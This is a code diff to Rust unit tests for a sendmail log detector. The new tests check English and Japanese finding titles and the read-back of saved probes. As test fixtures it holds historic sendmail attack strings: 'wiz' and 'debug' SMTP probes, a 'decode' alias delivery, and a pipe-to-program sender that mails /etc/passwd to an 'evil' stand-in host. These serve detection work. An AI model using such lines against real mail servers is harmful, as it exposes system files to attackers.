@@ -7,6 +7,7 @@
 
 use super::*;
 use crate::Detector;
+use crate::test_support::assert_japanese;
 use jiff::tz::{Offset, TimeZone};
 use kensa_core::Outcome;
 use kensa_logs::record::LineRef;
@@ -151,6 +152,7 @@ fn run_fixture(name: &str) {
         feed(&mut detector, &mut clock, name, number, 0, log.as_bytes());
     }
     let findings = detector.finish();
+    findings.iter().for_each(assert_japanese);
     let mut reported: BTreeMap<u64, &str> = BTreeMap::new();
     for finding in &findings {
         for evidence in &finding.evidence {
@@ -201,6 +203,71 @@ fn fixture_decoys_stay_silent() {
 }
 
 #[test]
+fn probe_titles_read_in_both_languages() {
+    let mut detector = SendmailDetector::default();
+    let mut clock = Clock::new(1996);
+    let lines = [
+        "Jan  3 02:14:07 mailhub sendmail[2214]: \"wiz\" command from evil.example.org [192.0.2.7] (192.0.2.7)",
+        "Jan  3 02:14:08 mailhub sendmail[2214]: \"debug\" command from evil.example.org [192.0.2.7] (192.0.2.7)",
+        "Jan  5 11:00:00 ws01 sendmail[3400]: AA03400: from=<c@d.example.org>, size=10, class=0, received from d.example.org (192.0.2.10)",
+        "Jan  5 11:00:01 ws01 sendmail[3400]: AA03400: to=decode, delay=00:00:01, stat=Sent",
+    ];
+    for (i, line) in lines.iter().enumerate() {
+        feed(
+            &mut detector,
+            &mut clock,
+            "var/log/syslog",
+            i as u64 + 1,
+            0,
+            line.as_bytes(),
+        );
+    }
+    let findings = detector.finish();
+    let titles: Vec<(&str, &str)> = findings
+        .iter()
+        .map(|f| (f.title.as_str(), f.title_ja.as_str()))
+        .collect();
+    let rule = &sm003_probe::RULE;
+    let (en, ja) = (rule.title, rule.title_ja);
+    assert_eq!(
+        titles,
+        [
+            (
+                format!("{en}: \"wiz\" SMTP command; \"debug\" SMTP command").as_str(),
+                format!("{ja}: SMTP コマンド \"wiz\"、SMTP コマンド \"debug\"").as_str()
+            ),
+            (
+                format!("{en}: decode alias: decode").as_str(),
+                format!("{ja}: decode エイリアス: decode").as_str()
+            ),
+        ]
+    );
+}
+
+#[test]
+fn probes_saved_in_english_by_an_earlier_run_read_back() {
+    // An incremental run saves each probe as its English wording (as kensa did before
+    // probes had a Japanese one); reading it back gives the probe, in both languages.
+    for probe in [
+        Probe::DecodeAlias("decode".into()),
+        Probe::UnparseableSender("|/bin/mail x@evil < /etc/passwd".into()),
+        Probe::RefusedAddress("/tmp/x".into()),
+        Probe::SmtpCommand("wiz".into()),
+        Probe::Other("something else: x".into()),
+    ] {
+        let saved = serde_json::to_string(&probe).expect("saves");
+        assert_eq!(
+            saved,
+            serde_json::to_string(&probe.text().en).expect("a string")
+        );
+        let back: Probe = serde_json::from_str(&saved).expect("reads back");
+        assert_eq!(back, probe);
+    }
+    let back: Probe = serde_json::from_str("\"refused address: /tmp/x\"").expect("reads");
+    assert_eq!(back.text().ja, "拒否されたアドレス: /tmp/x");
+}
+
+#[test]
 fn a_finding_carries_subject_merge_key_and_evidence_in_order() {
     let mut detector = SendmailDetector::default();
     let mut clock = Clock::new(1996);
@@ -225,6 +292,16 @@ fn a_finding_carries_subject_merge_key_and_evidence_in_order() {
     assert_eq!(findings.len(), 1);
     let finding = &findings[0];
     assert_eq!(finding.code, "SM002");
+    assert_eq!(
+        finding.title,
+        "Sendmail exploit delivered to its program or file (stat=Sent): |/bin/mail \
+         h4x@evil.example.org < /etc/passwd"
+    );
+    assert_eq!(
+        finding.title_ja,
+        "sendmail の脆弱性を悪用した攻撃が成功（プログラムまたはファイルへ配送、stat=Sent）: \
+         |/bin/mail h4x@evil.example.org < /etc/passwd"
+    );
     assert_eq!(finding.outcome, Outcome::Succeeded);
     assert_eq!(finding.severity, Severity::Critical);
     assert_eq!(finding.host, "mailhub");
